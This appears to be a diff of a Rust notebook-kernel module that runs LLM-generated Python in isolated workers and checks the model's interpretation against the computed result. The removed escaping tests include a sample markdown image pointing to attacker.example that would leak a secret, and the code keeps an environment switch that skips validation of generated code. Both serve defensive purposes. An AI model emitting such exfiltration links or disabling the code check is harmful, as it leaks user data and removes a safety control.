@@ -1,35 +1,30 @@
-//! A question cell: prompt -> code -> validate -> run -> interpret, as the design document
-//! describes, with at most these model calls: one for code, one more only after a
-//! validation failure, one more only after an execution error, then one streamed
-//! interpretation.
+//! A question cell, top to bottom: replay a recorded answer if this notebook has one →
+//! describe the data (prompt.rs) → solve: generate, repair, validate, run, check and feed back
+//! (solve.rs) → show the result (capped) → interpret it, grounded in the result → record the
+//! exchange.
 
-use super::engine::{fail_cell as fail, role_metadata, Engine, State};
-use super::llm::{LlmClient, LlmError};
+use super::engine::{fail_cell as fail, Engine, State};
+use super::llm::LlmClient;
 use super::prompt::{self, ContextItem};
+use super::render::{self, markdown_text, model_markdown, role as role_metadata};
 use super::session;
+use super::solve::{self, DataInfo, Ledger, Ran, Runner, Solved, Solver, Unsolved};
 use super::worker_client::CallError;
 use crate::protocol::backend::{ErrorInfo, ExecuteOutcome, Output, OutputSink};
 use history_store::{ExchangeRecord, HistoryStore, Usage};
 use serde_json::{json, Value};
+use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 
 /// How often the streamed interpretation is redrawn (frontends re-render on each update).
 const STREAM_REDRAW: Duration = Duration::from_millis(60);
-/// The design document's limit on a question's length.
-const MAX_QUESTION_CHARS: usize = 1000;
+/// Characters of a printed answer given to the interpretation.
+const INTERPRETATION_CHARS: usize = 1_500;
 
-/// Escape HTML so model text renders as text inside markdown.
-pub fn escape_html(s: &str) -> String {
-    s.replace('&', "&amp;")
-        .replace('<', "&lt;")
-        .replace('>', "&gt;")
-}
-
+/// Show code as a python block; `note` is markdown the caller made safe (markdown_text).
 fn emit_code(sink: &OutputSink, code: &str, note: Option<&str>) {
-    let fence = if code.contains("```") { "~~~~" } else { "```" };
-    let note = note
-        .map(|n| format!("{}\n\n", escape_html(n)))
-        .unwrap_or_default();
+    let fence = render::fence_for(code);
+    let note = note.map(|n| format!("{n}\n\n")).unwrap_or_default();
     sink.send(Output::DisplayData {
         data: json!({
             "text/markdown": format!("{note}{fence}python\n{code}\n{fence}"),
@@ -49,6 +44,10 @@ enum Run {
     Fatal(ErrorInfo),
 }
 
+/// Run generated code in a question worker of its own, which is killed afterwards whatever
+/// happened: model code never shares a process with later cells. The user's `%%python`
+/// variables travel as a pickle made by the user worker; the datasets are mapped from their
+/// Arrow files. The time limit is the kernel's, not the worker's word.
 async fn run_code(
     engine: &Engine,
     state: &mut State,
@@ -57,147 +56,158 @@ async fn run_code(
     sink: &OutputSink,
 ) -> Run {
     let timeout = engine.settings.max_execution_timeout;
-    let worker = match engine.worker(state).await {
+    let variables = engine.exported_variables(state).await;
+    let mut worker = match engine.question_worker(state).await {
         Ok(w) => w,
         Err(e) => return Run::Fatal(e),
     };
     let deadline = tokio::time::Instant::now() + timeout;
-    let args = json!({"code": code, "execution_count": count});
-    match worker
+    let args = json!({"code": code, "execution_count": count, "variables": variables});
+    let outcome = worker
         .call("run_question", args, Some(sink), Some(deadline))
-        .await
-    {
+        .await;
+    worker.kill().await;
+    // The next question (or replay) starts with a warm worker.
+    engine.prepare_question_worker(state).await;
+    let untouched = "Your data and the variables defined in %%python are untouched.";
+    match outcome {
         Ok(v) if v["status"] == "ok" => Run::Ok(v),
-        Ok(v) => Run::CodeError(v),
-        Err(CallError::Timeout) => {
-            let restored = engine.respawn(state).await;
-            Run::Fatal(ErrorInfo::new(
-                "TimeoutError",
-                format!(
-                    "Code execution timed out after {} seconds. The operation may be too complex. {restored}",
-                    timeout.as_secs_f64()
-                ),
-            ))
-        }
-        Err(err) => Run::Fatal(engine.worker_failure(state, err).await),
+        Ok(v) if v["status"] == "error" => Run::CodeError(v),
+        Ok(_) => Run::Fatal(ErrorInfo::new(
+            "WorkerProtocolError",
+            format!("The question's Python process sent a malformed reply and was stopped. {untouched}"),
+        )),
+        Err(CallError::Timeout) => Run::Fatal(ErrorInfo::new(
+            "TimeoutError",
+            format!(
+                "Code execution timed out after {} seconds. The operation may be too complex. \
+                 The question's Python process was stopped. {untouched}",
+                timeout.as_secs_f64()
+            ),
+        )),
+        Err(CallError::Interrupted) | Err(CallError::Unresponsive) => Run::Fatal(
+            ErrorInfo::new("KeyboardInterrupt", format!("Interrupted. {untouched}")),
+        ),
+        Err(CallError::Died(why)) => Run::Fatal(ErrorInfo::new(
+            "WorkerDied",
+            format!("The question's Python process died: {why}. {untouched}"),
+        )),
+        Err(CallError::Protocol(why)) => Run::Fatal(ErrorInfo::new(
+            "WorkerProtocolError",
+            format!(
+                "The question's Python process was stopped because {why}; nothing it sent after \
+                 that was shown. {untouched}"
+            ),
+        )),
+        Err(CallError::Failed(tb)) => Run::Fatal(ErrorInfo::new("WorkerError", tb)),
     }
 }
 
+fn validator_on() -> bool {
+    std::env::var(super::worker_client::SKIP_VALIDATION_ENV).as_deref() != Ok("1")
+}
+
 fn validate(code: &str) -> Result<(), code_guard::Rejection> {
-    if std::env::var("LLM_ANALYTICS_UNSAFE_SKIP_VALIDATION").as_deref() == Ok("1") {
+    if !validator_on() {
         tracing::error!(
             "LLM_ANALYTICS_UNSAFE_SKIP_VALIDATION=1: generated code runs WITHOUT the AST check"
         );
         return Ok(());
     }
-    code_guard::validate(code, &code_guard::Policy::default())
-}
-
-/// Wait for `fut`, unless the user interrupts first.
-async fn interruptible<T>(engine: &Engine, fut: impl std::future::Future<Output = T>) -> Option<T> {
-    tokio::select! {
-        r = fut => Some(r),
-        _ = engine.interrupt.notified() => None,
-    }
-}
-
-/// What a question cost: model time and tokens, execution time.
-#[derive(Default)]
-struct Costs {
-    llm: Duration,
-    exec: Duration,
-    usage: Usage,
-}
-
-impl Costs {
-    fn add_usage(&mut self, u: Option<super::llm::Usage>) {
-        if let Some(u) = u {
-            self.usage.prompt_tokens += u.prompt_tokens;
-            self.usage.completion_tokens += u.completion_tokens;
-        }
-    }
-}
-
-async fn generate(
-    engine: &Engine,
-    llm: &LlmClient,
-    system: &str,
-    prompt: &str,
-    costs: &mut Costs,
-) -> Result<String, Option<LlmError>> {
-    let t = Instant::now();
-    let reply = interruptible(
-        engine,
-        llm.complete(system, prompt, engine.settings.code_temperature),
+    code_guard::validate(
+        code,
+        &code_guard::Policy {
+            require_result: false,
+            ..Default::default()
+        },
     )
-    .await;
-    costs.llm += t.elapsed();
-    match reply {
-        None => Err(None),
-        Some(Err(e)) => Err(Some(e)),
-        Some(Ok(reply)) => {
-            costs.add_usage(reply.usage);
-            Ok(code_guard::extract_code(&reply.text))
+}
+
+/// Outputs of one run, held back until the kernel knows this attempt is the one to show.
+#[derive(Clone, Default)]
+struct Held(Arc<Mutex<Vec<Output>>>);
+
+impl Held {
+    fn sink(&self) -> OutputSink {
+        let held = self.0.clone();
+        OutputSink::new(move |out| held.lock().expect("held outputs").push(out))
+    }
+
+    fn take(&self) -> Vec<Output> {
+        std::mem::take(&mut *self.0.lock().expect("held outputs"))
+    }
+}
+
+/// Runs code in a fresh question worker of the engine (see run_code).
+struct EngineRunner<'a> {
+    engine: &'a Engine,
+    state: &'a mut State,
+    count: u32,
+}
+
+#[async_trait::async_trait]
+impl Runner for EngineRunner<'_> {
+    async fn run(&mut self, code: &str) -> Ran {
+        let held = Held::default();
+        match run_code(self.engine, self.state, code, self.count, &held.sink()).await {
+            Run::Ok(value) => Ran::Ok {
+                value,
+                outputs: held.take(),
+            },
+            Run::CodeError(value) => Ran::CodeError { value },
+            Run::Fatal(error) => {
+                // A slow or memory-hungry attempt may be rewritten; anything else stops.
+                let retry = matches!(error.ename.as_str(), "TimeoutError" | "WorkerDied");
+                Ran::Fatal { error, retry }
+            }
         }
     }
 }
 
-fn llm_failure(sink: &OutputSink, err: Option<LlmError>, what: &str) -> ExecuteOutcome {
-    match err {
-        None => fail(
-            sink,
-            "KeyboardInterrupt",
-            "Interrupted while waiting for the model.",
-        ),
-        Some(e) => fail(sink, "LLMError", format!("Error {what}: {e}")),
-    }
-}
-
-/// Ask for code and validate it, with the design document's one regeneration.
-async fn valid_code(
-    engine: &Engine,
-    llm: &LlmClient,
-    base: &str,
-    sink: &OutputSink,
-    costs: &mut Costs,
-) -> Result<String, ExecuteOutcome> {
-    let code = generate(engine, llm, prompt::CODE_SYSTEM, base, costs)
-        .await
-        .map_err(|e| llm_failure(sink, e, "generating code"))?;
-    let Err(rejection) = validate(&code) else {
-        return Ok(code);
+/// Show a run's outputs, with the printed text and the result's plain text together held to
+/// MAX_OUTPUT_SIZE characters (then one notice saying how much was cut and how to see more).
+fn show_outputs(sink: &OutputSink, outputs: Vec<Output>, max_chars: usize) {
+    let mut left = max_chars;
+    let mut cut = 0usize;
+    let mut take = |text: &str| -> String {
+        let n = text.chars().count();
+        if n <= left {
+            left -= n;
+            return text.to_string();
+        }
+        let kept: String = text.chars().take(left).collect();
+        cut += n - left;
+        left = 0;
+        kept
     };
-    tracing::info!("generated code rejected ({}); asking again", rejection.rule);
-    let retry = prompt::retry_prompt(base, &rejection.message);
-    let code = generate(engine, llm, prompt::RETRY_SYSTEM, &retry, costs)
-        .await
-        .map_err(|e| llm_failure(sink, e, "regenerating code"))?;
-    match validate(&code) {
-        Ok(()) => Ok(code),
-        Err(r) => {
-            emit_code(sink, &code, Some("This code was refused and did not run:"));
-            Err(fail(
-                sink,
-                "ValidationError",
-                format!(
-                    "Generated code failed validation: {} [rule: {}]",
-                    r.message, r.rule
-                ),
-            ))
+    for out in outputs {
+        match out {
+            Output::Stream { name, text } => {
+                let kept = take(&text);
+                if !kept.is_empty() {
+                    sink.send(Output::Stream { name, text: kept });
+                }
+            }
+            Output::ExecuteResult { mut data, metadata } => {
+                if let Some(t) = data.get("text/plain").and_then(Value::as_str) {
+                    let kept = take(t);
+                    data["text/plain"] = Value::String(kept);
+                }
+                sink.send(Output::ExecuteResult { data, metadata });
+            }
+            other => sink.send(other),
         }
     }
-}
-
-fn error_text(v: &Value) -> String {
-    let mut s = format!(
-        "{}: {}",
-        v["ename"].as_str().unwrap_or("Error"),
-        v["evalue"].as_str().unwrap_or("")
-    );
-    if let (Some(n), Some(line)) = (v["lineno"].as_u64(), v["line"].as_str()) {
-        s.push_str(&format!(" (line {n}: `{}`)", line.trim()));
+    if cut > 0 {
+        sink.stream(
+            "stderr",
+            format!(
+                "\n[output truncated: {cut} more characters not shown; this question's text output is limited to \
+                 MAX_OUTPUT_SIZE={max_chars} characters. Set MAX_OUTPUT_SIZE higher (environment or .env) and \
+                 restart the kernel to see more.]\n"
+            ),
+        );
     }
-    s
 }
 
 /// The design document's fallback when the interpretation call fails.
@@ -209,17 +219,6 @@ fn fallback_interpretation(summary: &str) -> String {
         return format!("The calculated result is: {v}");
     }
     "Analysis completed successfully. The results are shown above.".into()
-}
-
-/// Markdown for model text: HTML escaped; `$` escaped so frontends that typeset TeX
-/// (JupyterLab) show "$252.80" as money, not as the start of a formula; and brackets escaped
-/// so an injected `![](https://attacker/?q=...)` cannot become an image the browser fetches
-/// (or a link) — model text is shown as text.
-pub fn model_markdown(text: &str) -> String {
-    escape_html(text)
-        .replace('$', "\\\\$")
-        .replace('[', "\\[")
-        .replace(']', "\\]")
 }
 
 fn show_interpretation(sink: &OutputSink, text: &str, display_id: &str, first: bool) {
@@ -240,50 +239,77 @@ fn show_interpretation(sink: &OutputSink, text: &str, display_id: &str, first: b
     });
 }
 
-/// Stream the interpretation into one display that is updated as tokens arrive.
+/// What the interpretation is given about the result, and what its numbers are checked
+/// against: the worker's description, or the printed answer when the code printed it.
+fn result_description(solved: &Solved) -> String {
+    let described = solved.value["for_interpretation"].as_str().unwrap_or("");
+    if solved.value["result_type"] == "NoneType" {
+        let printed: String = solved.answer_text.chars().take(INTERPRETATION_CHARS).collect();
+        return printed;
+    }
+    described.to_string()
+}
+
+/// Stream the interpretation into one display, then check it: every number it states must be
+/// in the result (allowing rounding). Otherwise it is written once more; if that one is not
+/// grounded either, the design document's plain fallback replaces it.
+#[allow(clippy::too_many_arguments)]
 async fn interpret(
     engine: &Engine,
     llm: &LlmClient,
     question: &str,
     code: &str,
-    result: &Value,
+    description: &str,
+    summary: &str,
     sink: &OutputSink,
-    costs: &mut Costs,
+    ledger: &mut Ledger,
 ) -> String {
-    let description = result["for_interpretation"].as_str().unwrap_or("");
     let user = prompt::interpretation_prompt(question, code, description);
     let display_id = uuid::Uuid::new_v4().to_string();
     let mut shown = false;
-    let mut last_draw = Instant::now() - STREAM_REDRAW;
-    let t = Instant::now();
-    let streamed = interruptible(
-        engine,
-        llm.stream(
-            prompt::INTERPRET_SYSTEM,
-            &user,
-            engine.settings.interpretation_temperature,
-            |so_far| {
-                if !shown || last_draw.elapsed() >= STREAM_REDRAW {
-                    show_interpretation(sink, so_far, &display_id, !shown);
-                    shown = true;
-                    last_draw = Instant::now();
-                }
-            },
-        ),
-    )
-    .await;
-    costs.llm += t.elapsed();
-    let text = match streamed {
-        Some(Ok(reply)) => {
-            costs.add_usage(reply.usage);
-            reply.text.trim().to_string()
+    for attempt in 0..2 {
+        let mut last_draw = Instant::now() - STREAM_REDRAW;
+        let t = Instant::now();
+        let streamed = tokio::select! {
+            r = llm.stream(
+                prompt::INTERPRET_SYSTEM,
+                &user,
+                engine.settings.interpretation_temperature,
+                engine.settings.max_interpretation_tokens,
+                |so_far| {
+                    let so_far = super::reply::without_reasoning(so_far);
+                    if !so_far.trim().is_empty() && (!shown || last_draw.elapsed() >= STREAM_REDRAW) {
+                        show_interpretation(sink, &so_far, &display_id, !shown);
+                        shown = true;
+                        last_draw = Instant::now();
+                    }
+                },
+            ) => Some(r),
+            _ = engine.interrupt.notified() => None,
+        };
+        let text = match streamed {
+            Some(Ok(reply)) => {
+                ledger.add(reply.usage.as_ref(), t.elapsed());
+                super::reply::without_reasoning(&reply.text).trim().to_string()
+            }
+            Some(Err(e)) => {
+                ledger.add(None, t.elapsed());
+                tracing::warn!("interpretation failed: {e}");
+                break;
+            }
+            None => break,
+        };
+        let unsupported = super::checks::ungrounded_numbers(&text, description, question);
+        if !text.is_empty() && unsupported.is_empty() {
+            show_interpretation(sink, &text, &display_id, !shown);
+            return text;
         }
-        Some(Err(e)) => {
-            tracing::warn!("interpretation failed: {e}");
-            fallback_interpretation(result["summary"].as_str().unwrap_or(""))
-        }
-        None => fallback_interpretation(result["summary"].as_str().unwrap_or("")),
-    };
+        tracing::info!(
+            "interpretation attempt {} states numbers not in the result: {unsupported:?}",
+            attempt + 1
+        );
+    }
+    let text = fallback_interpretation(summary);
     show_interpretation(sink, &text, &display_id, !shown);
     text
 }
@@ -329,25 +355,36 @@ async fn replay(
         return fail(sink, "ValidationError", format!("The recorded answer's code failed validation: {} [rule: {}]. Use %%fresh to ask the model.", r.message, r.rule));
     }
     let when = rec.timestamp.format("%Y-%m-%d");
-    let note = format!("Replayed a recorded answer ({}, {when}): this code ran on your data without calling the model. Start the cell with %%fresh to ask the model again.", if rec.model.is_empty() { "recorded" } else { rec.model.as_str() });
+    let model = if rec.model.is_empty() {
+        "recorded"
+    } else {
+        rec.model.as_str()
+    };
+    let note = format!(
+        "Replayed a recorded answer ({}, {}): this code ran on your data without calling the model. \
+         Start the cell with %%fresh to ask the model again.",
+        markdown_text(model),
+        markdown_text(&when.to_string())
+    );
     emit_code(sink, &rec.code, Some(&note));
     state.last_code = Some(rec.code.clone());
     let t = Instant::now();
-    let run = run_code(engine, state, &rec.code, count, sink).await;
-    let exec = t.elapsed();
-    let costs = Costs {
-        exec,
-        ..Costs::default()
+    let held = Held::default();
+    let run = run_code(engine, state, &rec.code, count, &held.sink()).await;
+    let ledger = Ledger {
+        exec: t.elapsed(),
+        ..Ledger::default()
     };
     let (ename, message) = match run {
         Run::Ok(result) => {
+            show_outputs(sink, held.take(), engine.settings.max_output_size);
             show_interpretation(
                 sink,
                 &rec.interpretation,
                 &uuid::Uuid::new_v4().to_string(),
                 true,
             );
-            let mut replayed = record(key, &rec.code, &result, &rec.interpretation, None, &costs);
+            let mut replayed = record(key, &rec.code, &result, &rec.interpretation, None, &ledger);
             replayed.model = rec.model;
             replayed.endpoint_host = rec.endpoint_host;
             replayed.replayed = true;
@@ -362,7 +399,7 @@ async fn replay(
             err["friendly"]
                 .as_str()
                 .map(String::from)
-                .unwrap_or_else(|| error_text(&err)),
+                .unwrap_or_else(|| solve::error_text(&err)),
         ),
         Run::Fatal(e) => (e.ename, e.evalue),
     };
@@ -373,7 +410,7 @@ async fn replay(
         &Value::Null,
         "",
         Some(message.clone()),
-        &costs,
+        &ledger,
     );
     failed.model = rec.model;
     failed.endpoint_host = rec.endpoint_host;
@@ -403,8 +440,17 @@ pub async fn ask(
             "No data is loaded yet. Load a CSV first, e.g. %load sales.csv",
         );
     }
-    if question.chars().count() > MAX_QUESTION_CHARS {
-        return fail(sink, "QuestionTooLong", format!("Questions are limited to {MAX_QUESTION_CHARS} characters; this one has {}. Shorten it or split it into follow-ups.", question.chars().count()));
+    let length = question.chars().count();
+    if length > settings.max_question_chars {
+        return fail(
+            sink,
+            "QuestionTooLong",
+            format!(
+                "Questions are limited to {} characters (MAX_QUESTION_CHARS); this one has {length}. \
+                 Shorten it, split it into follow-ups, or raise MAX_QUESTION_CHARS.",
+                settings.max_question_chars
+            ),
+        );
     }
     let context: Vec<ContextItem> = state
         .exchanges
@@ -421,7 +467,7 @@ pub async fn ask(
     let key = Key {
         question,
         fingerprint: session::data_fingerprint(&state.datasets),
-        context_key: session::context_key(&context),
+        context_key: session::replay_scope(&engine.notebook),
         started,
     };
     let store = engine.store().await;
@@ -441,88 +487,102 @@ pub async fn ask(
         Ok(c) => c,
         Err(e) => return fail(sink, "LLMError", e),
     };
+    // The question worker starts now, while the model writes the code.
+    engine.prepare_question_worker(state).await;
     let datasets: Vec<(String, Value)> = state
         .datasets
         .iter()
         .map(|d| (d.name.clone(), d.profile.clone()))
         .collect();
-    let base = prompt::code_prompt(&datasets, question, &context);
-    let mut costs = Costs::default();
-
-    let mut code = match valid_code(engine, &llm, &base, sink, &mut costs).await {
-        Ok(c) => c,
-        Err(outcome) => return outcome,
+    let data = DataInfo {
+        names: state.datasets.iter().map(|d| d.name.clone()).collect(),
+        columns: datasets
+            .iter()
+            .flat_map(|(_, p)| {
+                p["columns"]
+                    .as_array()
+                    .into_iter()
+                    .flatten()
+                    .filter_map(|c| c.as_str().map(String::from))
+            })
+            .collect(),
     };
-    emit_code(sink, &code, None);
-    state.last_code = Some(code.clone());
-    let t = Instant::now();
-    let mut run = run_code(engine, state, &code, count, sink).await;
-    costs.exec += t.elapsed();
-    if let Run::CodeError(err) = &run {
-        // One self-repair round: the model sees the error type, message and failing line.
-        let repair = prompt::repair_prompt(&base, &code, &error_text(err));
-        let friendly = err["friendly"].as_str().unwrap_or("").to_string();
-        match generate(engine, &llm, prompt::CODE_SYSTEM, &repair, &mut costs).await {
-            Ok(fixed) if validate(&fixed).is_ok() => {
-                emit_code(
-                    sink,
-                    &fixed,
-                    Some(&format!(
-                        "The first attempt failed ({}), so the model corrected it:",
-                        error_text(err)
-                    )),
-                );
-                code = fixed;
-                state.last_code = Some(code.clone());
-                let t = Instant::now();
-                run = run_code(engine, state, &code, count, sink).await;
-                costs.exec += t.elapsed();
-            }
-            Ok(_) | Err(Some(_)) => {
-                tracing::info!("self-repair produced no usable code");
-                run = Run::Fatal(ErrorInfo::new("ExecutionError", friendly));
-            }
-            Err(None) => {
-                return fail(
-                    sink,
-                    "KeyboardInterrupt",
-                    "Interrupted while waiting for the model.",
-                )
-            }
-        }
-    }
+    let base = prompt::code_prompt(&datasets, question, &context);
+    let mut ledger = Ledger::default();
+    let solver = Solver {
+        llm: &llm,
+        sink,
+        temperature: settings.code_temperature,
+        max_tokens: settings.max_code_tokens,
+        max_rounds: settings.max_repair_rounds,
+        timeout: settings.max_execution_timeout,
+        interrupt: &engine.interrupt,
+        validate: validator_on(),
+    };
+    let mut runner = EngineRunner {
+        engine,
+        state,
+        count,
+    };
+    let solved = solver
+        .solve(&base, question, &data, &mut runner, &mut ledger)
+        .await;
+    let state = runner.state;
     let stamp = |rec: &mut ExchangeRecord| {
         rec.model = llm.model().to_string();
         rec.endpoint_host = llm.endpoint_host();
     };
-    let result = match run {
-        Run::Ok(v) => v,
-        Run::CodeError(err) => {
-            let msg = err["friendly"]
-                .as_str()
-                .map(String::from)
-                .unwrap_or_else(|| error_text(&err));
-            let mut rec = record(&key, &code, &Value::Null, "", Some(msg.clone()), &costs);
-            stamp(&mut rec);
-            save(engine, state, rec).await;
-            return fail(sink, err["ename"].as_str().unwrap_or("ExecutionError"), format!("{msg}\nThe analysis encountered an error. Please try rephrasing your question."));
-        }
-        Run::Fatal(e) => {
-            let mut rec = record(
-                &key,
-                &code,
-                &Value::Null,
-                "",
-                Some(e.evalue.clone()),
-                &costs,
-            );
-            stamp(&mut rec);
-            save(engine, state, rec).await;
-            return fail(sink, &e.ename.clone(), e.evalue);
+    let solved = match solved {
+        Ok(s) => s,
+        Err(unsolved) => {
+            let (code, error) = match unsolved {
+                Unsolved::Refused { code, rule, message, .. } => (
+                    code,
+                    ErrorInfo::new(
+                        "ValidationError",
+                        format!("Generated code failed validation: {message} [rule: {rule}]"),
+                    ),
+                ),
+                Unsolved::Failed { code, ename, message, .. } => (
+                    code,
+                    ErrorInfo::new(
+                        ename,
+                        format!("{message}\nThe analysis encountered an error. Please try rephrasing your question."),
+                    ),
+                ),
+                Unsolved::Stopped(e) => (String::new(), e),
+            };
+            if !code.is_empty() {
+                state.last_code = Some(code.clone());
+                let mut rec = record(&key, &code, &Value::Null, "", Some(error.evalue.clone()), &ledger);
+                stamp(&mut rec);
+                save(engine, state, rec).await;
+            }
+            return fail(sink, &error.ename, error.evalue);
         }
     };
-    let interpretation = interpret(engine, &llm, question, &code, &result, sink, &mut costs).await;
-    let mut rec = record(&key, &code, &result, &interpretation, None, &costs);
+    state.last_code = Some(solved.code.clone());
+    show_outputs(sink, solved.outputs.clone(), settings.max_output_size);
+    let description = result_description(&solved);
+    let summary = if solved.value["result_type"] == "NoneType" && !solved.answer_text.is_empty() {
+        "Printed output".to_string()
+    } else {
+        solved.value["summary"].as_str().unwrap_or("").to_string()
+    };
+    let interpretation = interpret(
+        engine,
+        &llm,
+        question,
+        &solved.code,
+        &description,
+        &summary,
+        sink,
+        &mut ledger,
+    )
+    .await;
+    let mut value = solved.value.clone();
+    value["summary"] = Value::String(summary);
+    let mut rec = record(&key, &solved.code, &value, &interpretation, None, &ledger);
     stamp(&mut rec);
     save(engine, state, rec).await;
     ExecuteOutcome::ok()
@@ -534,7 +594,7 @@ fn record(
     result: &Value,
     interpretation: &str,
     error: Option<String>,
-    costs: &Costs,
+    ledger: &Ledger,
 ) -> ExchangeRecord {
     ExchangeRecord {
         id: uuid::Uuid::new_v4().to_string(),
@@ -554,9 +614,12 @@ fn record(
         full_result: result.get("full_result").cloned().unwrap_or(Value::Null),
         model: String::new(),
         endpoint_host: String::new(),
-        usage: costs.usage.clone(),
-        llm_ms: costs.llm.as_millis() as u64,
-        exec_ms: costs.exec.as_millis() as u64,
+        usage: Usage {
+            prompt_tokens: ledger.usage.prompt_tokens,
+            completion_tokens: ledger.usage.completion_tokens,
+        },
+        llm_ms: ledger.llm.as_millis() as u64,
+        exec_ms: ledger.exec.as_millis() as u64,
         total_ms: key.started.elapsed().as_millis() as u64,
         data_fingerprint: key.fingerprint.clone(),
         context_key: key.context_key.clone(),
@@ -573,6 +636,11 @@ async fn save(engine: &Engine, state: &mut State, rec: ExchangeRecord) {
             tracing::warn!("history: could not record the exchange: {e}");
         }
     }
+    // A replay of a question the conversation already holds (Restart & Run All) adds nothing
+    // to it: the earlier copy goes, so each question appears once, at its latest place.
+    if rec.replayed {
+        state.exchanges.retain(|e| e.question != rec.question);
+    }
     state.exchanges.push(rec);
     if state.exchanges.len() > cap {
         let excess = state.exchanges.len() - cap;
@@ -583,30 +651,6 @@ async fn save(engine: &Engine, state: &mut State, rec: ExchangeRecord) {
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn html_in_model_text_is_escaped() {
-        assert_eq!(
-            escape_html("<script>x</script> & **bold**"),
-            "&lt;script&gt;x&lt;/script&gt; &amp; **bold**"
-        );
-    }
-
-    #[test]
-    fn dollars_are_not_typeset_as_math() {
-        assert_eq!(
-            model_markdown("from $5 to $7 <b>"),
-            r"from \\$5 to \\$7 &lt;b&gt;"
-        );
-    }
-
-    #[test]
-    fn markdown_images_and_links_from_the_model_stay_text() {
-        let md = model_markdown("see ![x](https://attacker.example/?q=secret) and [y](z)");
-        // Every `](` that would make a link or image is escaped.
-        assert!(!md.replace(r"\]", "").contains("]("), "{md}");
-        assert!(md.contains(r"!\[x\](https://attacker.example/?q=secret)"));
-    }
 
     #[test]
     fn fallbacks_follow_the_design_document() {
@@ -625,11 +669,44 @@ mod tests {
     }
 
     #[test]
-    fn error_text_names_the_line() {
-        let v = json!({"ename": "KeyError", "evalue": "'price'", "lineno": 2, "line": "  x = df['price']"});
+    fn dollars_are_not_typeset_as_math() {
         assert_eq!(
-            error_text(&v),
-            "KeyError: 'price' (line 2: `x = df['price']`)"
+            model_markdown("from $5 to $7 <b>"),
+            r"from \\$5 to \\$7 &lt;b&gt;"
         );
+    }
+
+    #[test]
+    fn question_output_is_capped_with_one_notice() {
+        let got: Arc<Mutex<Vec<Output>>> = Default::default();
+        let g = got.clone();
+        let sink = OutputSink::new(move |o| g.lock().unwrap().push(o));
+        let outputs = vec![
+            Output::Stream {
+                name: "stdout".into(),
+                text: "x".repeat(50_000),
+            },
+            Output::ExecuteResult {
+                data: json!({"text/plain": "y".repeat(100), "text/html": "<table></table>"}),
+                metadata: json!({}),
+            },
+        ];
+        show_outputs(&sink, outputs, 10_000);
+        let got = got.lock().unwrap();
+        let text: usize = got
+            .iter()
+            .map(|o| match o {
+                Output::Stream { name, text } if name == "stdout" => text.len(),
+                Output::ExecuteResult { data, .. } => data["text/plain"].as_str().unwrap().len(),
+                _ => 0,
+            })
+            .sum();
+        assert_eq!(text, 10_000);
+        let notices: Vec<&Output> = got
+            .iter()
+            .filter(|o| matches!(o, Output::Stream { name, .. } if name == "stderr"))
+            .collect();
+        assert_eq!(notices.len(), 1);
+        assert!(matches!(notices[0], Output::Stream { text, .. } if text.contains("40100 more characters") && text.contains("MAX_OUTPUT_SIZE")));
     }
 }
